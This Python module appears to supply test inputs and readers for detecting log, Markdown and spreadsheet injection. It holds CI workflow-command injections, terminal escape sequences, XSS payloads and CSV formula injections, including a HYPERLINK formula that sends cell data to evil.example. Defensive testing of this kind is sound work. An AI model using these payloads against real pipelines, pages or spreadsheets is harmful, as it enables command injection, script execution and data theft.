"""Texts that a model or a data set may hold to be more than text somewhere, and readers that take them as each place does.

`{tag}` in a text is replaced by what tells it from others, so that a reader can say which of them it obeyed.
"""

from __future__ import annotations

import csv
import html
import io
import re
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable, Mapping, Sequence

from markdown_it import MarkdownIt

TAG = re.compile(r"tag[0-9a-z]+z")

GITHUB = [
    "::set-output name={tag}::1", "::error file=a.py,line=1::{tag}", "x\n::warning::{tag}", "   ::add-mask::{tag}", "\t\u3000::notice::{tag}",
    "a\r::error::{tag}", "a\r\n::debug::{tag}", "Lyon ##[set-output name={tag}]1", "###[error]{tag}", "##[group]{tag}", "\u2003::stop-commands::{tag}",
    "\x85::error::{tag}", "\v::error::{tag}", "x\n\n\n::save-state name={tag}::1", "##[add-path]{tag}", "\x1b[0m\n::error::{tag}",
]  # fmt: skip
AZURE = [
    "##vso[task.complete result=Succeeded;]{tag}", "x ##vso[task.setvariable variable={tag}]1", "##VSO[task.logissue type=error]{tag}",
    "a\n##vso[build.addbuildtag]{tag}", "##[error]{tag}", "##[section]{tag}", "##[command]{tag}", "###vso[task.prependpath]{tag}", "a\r##vso[task.uploadfile]{tag}",
    "#\u200b#vso[x.y]{tag}\n##vso[task.setsecret]{tag}",
]  # fmt: skip
TEAMCITY = [
    "##teamcity[testStarted name='{tag}']", "Lyon\n##teamcity[testFinished name='{tag}']", "  ##teamcity[buildStatus status='SUCCESS' text='{tag}']",
    "x ##teamcity[buildProblem description='{tag}']", "##TeamCity[setParameter name='{tag}' value='1']", "a\r##teamcity[publishArtifacts '{tag}']",
    "###teamcity[blockOpened name='{tag}']", "\x1b[31m##teamcity[progressMessage '{tag}']", "\t##teamcity[importData type='junit' path='{tag}']",
    "##teamcity[testFailed name='a' message='{tag}']",
]  # fmt: skip
GITLAB = [
    "section_start:1:{tag}\r\x1b[0Kheader", "section_end:1:{tag}\r\x1b[0K", "x section_start:1560896352:{tag}[collapsed=true]\r\x1b[0K",
    "\x1b[0Ksection_start:1:{tag}\r\x1b[0Kx", "a\nsection_start:9:{tag}\r\x1b[0K", "SECTION_START:1:{tag}\r\x1b[0K\nsection_end:2:{tag}\r\x1b[0K",
    "\rsection_start:1:{tag}\r\x1b[0K", "..section_end:1:{tag}\r\x1b[0Ksection_start:2:{tag}\r\x1b[0K", "\x1b[32msection_start:1:{tag}\r\x1b[0K",
    "section_start:0000000001:{tag}\r\x1b[0K",
]  # fmt: skip
TERMINAL = [
    f"{{tag}}{character}x"
    for character in (
        *("\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link", "\x1b[2J", "\x1b[1A\x1b[2K", "\x1bc", "\x07", "\b\b\b", "\x00", "\x7f", "\x9b31m", "\x9d0;t\x9c"),
        *("\u202e", "\u2066", "\u061c", "\u200e", "\u200f", "\u200b", "\u200d", "\u200c", "\u2060", "\u2063", "\xad", "\ufeff", "\u3164", "\u115f", "\u180e", "\ufe0f"),
        *("\U000e0041\U000e0042", "\U000e0100", "\U0001f3f4\U000e0068\U000e0069", "\ud800", "\udfff", "\u2028", "\u2029", "\x85", "\v", "\f", "\ufff9", "\U0001d173", "\uffff", "\ufdd0"),
    )
]  # fmt: skip
MARKDOWN = [
    "[{tag}](https://evil.example)", "![{tag}](https://evil.example/x.png)", "<https://evil.example/{tag}>", "https://evil.example/{tag}", "www.evil.example/{tag}",
    "http://evil.example?{tag}", "ftp://evil.example/{tag}", "//evil.example/{tag}", "evil.com/{tag}", "{tag}@evil.com", "mailto:{tag}@evil.com", "xmpp:{tag}@evil.com",
    "[{tag}]: https://evil.example\n\n[{tag}]", "<a href='https://evil.example'>{tag}</a>", "<img src=x onerror=alert(1) alt={tag}>", "<script>{tag}</script>",
    "</details><h1>{tag}</h1>", "</pre><b>{tag}</b>", "```\n</details>\n# {tag}\n```", "````\n```\n<b>{tag}</b>", "~~~\n[{tag}](https://evil.example)", "`[{tag}](https://evil.example)",
    "``` [{tag}](https://evil.example) ```", "| a | b |\n| - | - |\n| [{tag}](https://e.example) | x |", "@{tag}", "@evil/{tag}", "#1 {tag}", "GH-3 {tag}", "gh-3 {tag}", "org/repo#12 {tag}",
    "org/repo@0123456789abcdef {tag}", "0123456789abcdef0123456789abcdef01234567 {tag}", "abc1234 {tag}", "!12 {tag}", "%3 {tag}", "~label{tag}", "&4 {tag}", "$5 {tag}", "JIRA-77 {tag}",
    "\\[{tag}](https://evil.example)", "\\\\[{tag}](https://evil.example)", "[{tag}\n](https://evil.example)", "[![{tag}](x)](https://evil.example)", "&lt;img src=x&gt;{tag}&#64;{tag}",
    "<!-- {tag}", "<![CDATA[{tag}", "<?php {tag}", "# {tag}", "- [ ] {tag}", "> {tag}", "1. {tag}", "***{tag}***", "$$\\href{{https://evil.example}}{{ {tag} }}$$", "*[{tag}](https://e.example)*",
    "[{tag}](javascript:alert(1))", "HTTPS://EVIL.EXAMPLE/{tag}", "Https://evil.example/{tag}", "x https://user:pw@evil.example/{tag}.", "\uff37\uff37\uff37.evil.example/{tag} www.evil.com", "[^1]{tag}\n\n[^1]: https://e.example",
]  # fmt: skip
CSV = [
    f"{start}{{tag}}{end}"
    for start, end in (
        *(("=cmd|' /C calc'!A0 ", ""), ("+cmd|' /C calc'!A0 ", ""), ("-2+3+cmd|' /C calc'!A0 ", ""), ("@SUM(1+1)*cmd|' /C calc'!A0 ", "")),
        *(("\t=1+1 ", ""), ("\r=1+1 ", ""), ("\n=1+1 ", ""), ("fine\r=cmd|' /C calc'!A0\rtail ", ""), ("fine\n=cmd|' /C calc'!A0 ", ""), ("fine\r\n@SUM(A1) ", "")),
        *(('"=1+1" ', ""), ('","=1+1 ', ""), ('";=1+1 ', ""), ("a;=cmd|'/C calc'!A0 ", ""), ("a\t=cmd|'/C calc'!A0 ", ""), ("a;-2+3+cmd|'/C calc'!A0 ", "")),
        *((" =1+1 ", ""), ("\xa0=1+1 ", ""), ("\ufeff=1+1 ", ""), ("\uff1dcmd ", ""), ("\uff0b1+1 ", ""), ("\uff0d1+1 ", ""), ("\uff20SUM(1) ", "")),
        *(('=HYPERLINK("http://evil.example?x="&A1) ', ""), ('=IMPORTXML("http://evil.example") ', ""), ("'\n=1 ", ""), ("a,=1+1 ", "")),
    )
]  # fmt: skip
XML = [
    "{tag}\x00",
    "{tag}\x0b",
    "{tag}\x1f",
    "{tag}\ud800",
    "{tag}\udfff",
    "{tag}\ufffe",
    "{tag}]]></failure><script/>",
    "{tag}&amp;<b>",
    "{tag}\x85",
    "{tag}\U0001ffff",
]
SURROGATES = ["{tag}\ud800", "\udfff{tag}", "{tag}\ud83d x \ude00", "\udc80{tag}", "{tag}\ude00\ud83d"]


# -- Readers: each returns the tags of what was more than text.

Reader = Callable[[str], set[str]]


def tags(texts: Sequence[str]) -> set[str]:
    """Return the tags in some texts."""
    return {tag for text in texts for tag in TAG.findall(text)}


def github(log: str) -> set[str]:
    """Read a log as GitHub's runner does: by lines (a carriage return ends one), trimmed, ``::`` first, ``##[`` anywhere."""
    lines = re.split(r"\r\n|\r|\n", log)
    second = [line for line in lines if re.match(r"::[\w-]+.*?::", line.lstrip(), re.DOTALL)]
    # The annotations of this plugin have what a case said as their message.
    second = [line for line in second if not re.match(r"::(error|warning) (file=[\w.]+,line=\d+,)?title=", line)]
    return tags([*second, *(line[line.index("##[") :] for line in lines if re.search(r"##\[[^\]]*\]", line))])


def azure(log: str) -> set[str]:
    """Read a log as the agent of Azure Pipelines does: ``##vso[`` and ``##[`` anywhere in a line, in any case."""
    lines = re.split(r"\r\n|\r|\n", log)
    return tags([found[0] for line in lines if (found := re.search(r"##(?:vso)?\[.*", line, re.IGNORECASE))])


def teamcity(log: str) -> set[str]:
    """Read a log as TeamCity and its IDEs do."""
    lines = re.split(r"\r\n|\r|\n", log)
    return tags([found[0] for line in lines if (found := re.search(r"##teamcity\[.*", line, re.IGNORECASE))])


def gitlab(log: str) -> set[str]:
    """Read a log as GitLab does."""
    return tags([found[0] for found in re.finditer(r"section_(?:start|end):\d+:[\w.-]+(?:\[.*?\])?\r\x1b\[0K", log)])


def terminal(log: str) -> set[str]:
    """Return the tags before a character that a terminal obeys or hides. Colours are those of whoever printed the line."""
    found = set()
    for line in re.split(r"\r?\n", log):
        for match in TAG.finditer(line):
            follows = line[match.end() :][:3]
            if any(_steers(char) for char in follows[:1]) or (follows[:1] == "\U0001f3f4" and _steers(follows[1:2])):
                found.add(match[0])
    return found


def _steers(character: str) -> bool:
    if not character:
        return False
    code, category = ord(character), unicodedata.category(character)
    hidden = code in (0x3164, 0x115F, 0x180E, 0xFFFF, 0xFDD0, 0xFE0F) or 0xE0000 <= code <= 0xE0FFF
    return hidden or category in ("Cc", "Cf", "Cs", "Zl", "Zp")


_ALLOWED = re.compile(
    r"</?(?:details|summary|table|thead|tbody|tr|th|td|p|ul|li|h3|strong|code|pre|br|ol)(?:\s[^<>]*)?/?>"
)
_REFERENCES = re.compile(
    r"(?<![\w/])(?:@[A-Za-z][\w/-]*|(?:[\w.-]+/[\w.-]+)?#\d+|gh-\d+|[A-Z]{2,}-\d+|(?:[\w.-]+/[\w.-]+@)?\b[0-9a-f]{7,40}\b|[!%&$]\d+|~[A-Za-z]\w*)|[\w.-]+/[\w.-]+[#@][0-9a-f]+",
    re.IGNORECASE,
)


def markdown(text: str, *, allow_html: bool = True) -> set[str]:
    """Render as forges and editors do, addresses linked wherever they look like some; then look for links, images, elements that are
    not ours, and references in what is not code.
    """
    renderer = MarkdownIt("commonmark", {"html": allow_html, "linkify": True}).enable(
        ["table", "strikethrough", "linkify"]
    )
    found = set()
    for line in _pieces(renderer.render(text)):
        plain = re.sub(r"<code[^>]*>.*?</code>", "", line, flags=re.DOTALL)
        # An element that is not ours, a link or an image; then what a forge finds in the text that is left.
        foreign = re.search(
            r"<(?!/?(?:details|summary|table|thead|tbody|tr|th|td|p|ul|li|h3|strong|code|pre|br|ol)\b)", plain
        )
        shown = html.unescape(re.sub(r"<[^>]*>", " ", plain))
        named = _REFERENCES.search(TAG.sub("tag", shown)) or re.search(r"@tag|~labeltag|/tag@", TAG.sub("tag", shown))
        if foreign or named:
            found |= set(TAG.findall(line))
    return found


def _pieces(page: str) -> list[str]:
    """Cut a page where a case begins, so that what is wrong in one is not taken for another's."""
    return re.split(r"(?=<strong>)|(?=<li>)|(?=<tr>)", page)


def spreadsheet(text: str) -> set[str]:
    """Read a table as spreadsheets do that separate by commas, semicolons or tabs, and as one that is blind to quotes."""
    found = set()
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found |= {tag for cell in row if _is_formula(cell) for tag in TAG.findall(cell)}
    for line in re.split(r"[\r\n]", text):
        if _is_formula(line):
            found |= set(TAG.findall(line))
    return found


def _is_formula(cell: str) -> bool:
    bare = cell.lstrip(" \xa0\ufeff\t\r\n")
    if re.fullmatch(r"[+-]?\d+(\.\d+)?", bare):
        return False
    return bare[:1] in tuple("=@\uff1d\uff20") or (
        bare[:1] in tuple("+-\uff0b\uff0d") and bool(re.search(r"[(|!]|\d", bare))
    )


def xml(text: str) -> set[str]:
    """Return all tags of an XML file that no parser takes, and none of one that is well formed."""
    try:
        root = ET.fromstring(text)
    except (ET.ParseError, UnicodeEncodeError):
        return set(TAG.findall(text)) or {"not well formed"}
    return {"an element"} if root.find(".//script") is not None else set()


LANGUAGES: Mapping[str, tuple[Sequence[str], Reader, Mapping[str, str]]] = {
    "github": (GITHUB, github, {"GITHUB_ACTIONS": "true"}),
    "azure": (AZURE, azure, {"TF_BUILD": "True"}),
    "teamcity": (TEAMCITY, teamcity, {"TEAMCITY_VERSION": "2025.07"}),
    "gitlab": (GITLAB, gitlab, {"GITLAB_CI": "true"}),
}
"""Of each CI system: its commands, how it reads a log, and the environment of its jobs."""
